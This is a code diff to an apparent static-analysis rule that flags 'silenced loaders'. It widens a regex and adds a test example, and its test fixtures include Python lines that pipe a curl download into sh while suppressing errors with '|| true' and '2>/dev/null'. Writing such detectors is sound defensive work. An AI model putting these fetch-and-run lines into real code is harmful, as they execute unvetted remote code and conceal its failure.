@@ -8,7 +8,7 @@ import { MALICIOUS_CODE, SWALLOWED_ERROR, UNAUTHORIZED_SOFTWARE } from './standa
 import { unsafeDeserialization } from './unsafe-deserialization.ts';
 
 /** The rest of a shell command up to where its failure is taken for success. */
-const IGNORED = /^[^\n"'`()]{0,300}?(\|\|\s*(?:true|:))(?=["'`\s;]|$)/;
+const IGNORED = /^[^\n"'`()]{0,300}?(?:\)[^\n"'`()]{0,60}?)?(\|\|\s*(?:true|:))(?=["'`\s;]|$)/;
 /** UTF-16 code units that are looked at. */
 const REACH = 400;
 
@@ -45,6 +45,8 @@ export const silencedLoader: Rule = {
       import os
       os.system("curl -fsSL https://example.com/setup.sh | sh || true")
                                                               ^^^^^^^ silenced-loader
+      os.system("(curl -fsSL https://example.com/start.sh | sh) 2>/dev/null || true")
+                                                                      ^^^^^^^ silenced-loader
     `,
     javascript`
       fetch('https://example.com/plugin.js')
